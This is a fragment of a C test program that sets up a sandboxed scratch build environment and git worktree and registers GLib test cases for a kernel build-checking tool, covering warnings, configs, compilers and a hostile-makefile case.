		g_test_message("building without a sandbox: %s", error->message);
	g_clear_error(&error);
	fragments = g_build_filename(ZERODAY_SRCDIR, "engine", "kconfig", NULL);
	tools = g_build_filename(testlib_scratch(), "tools", NULL);
	if (!build_install_tools(tools, &error))
		g_error("%s", error->message);
	src_repo = g_build_filename(testlib_scratch(), "history", NULL);
	setup_history();
	worktree_dir = g_build_filename(testlib_scratch(), "src", NULL);
	git_dir = g_build_filename(src_repo, ".git", NULL);
	wt = repo_worktree_open(worktree_dir, git_dir, &error);
	g_assert_no_error(error);

	g_test_add_func("/build/targets", test_targets);
	g_test_add_func("/build/kselftest-targets", test_kselftest_targets);
	g_test_add_func("/build/new-warning", test_new_warning);
	g_test_add_func("/build/moved-warning", test_moved_warning);
	g_test_add_func("/build/error-one-config", test_error_one_config);
	g_test_add_func("/build/parent-failing", test_parent_failing);
	g_test_add_func("/build/failed-parent-warnings", test_failed_parent_warnings);
	g_test_add_func("/build/log-only-kept", test_log_only_kept);
	g_test_add_func("/build/leftover-object", test_leftover_object);
	g_test_add_func("/build/diag-version-wipes", test_diag_version_wipes);
	g_test_add_func("/build/kconfig-change", test_kconfig_change);
	g_test_add_func("/build/configs", test_configs);
	g_test_add_func("/build/no-cross-compiler", test_no_cross_compiler);
	g_test_add_func("/build/clang-only", test_clang_only);
	g_test_add_func("/build/reproduce-lines", test_reproduce_lines);
	g_test_add_func("/build/compiler-version", test_compiler_version);
	g_test_add_func("/build/hostile-makefile", test_hostile_makefile);
	rc = g_test_run();
	repo_worktree_free(wt);
	return rc;
}
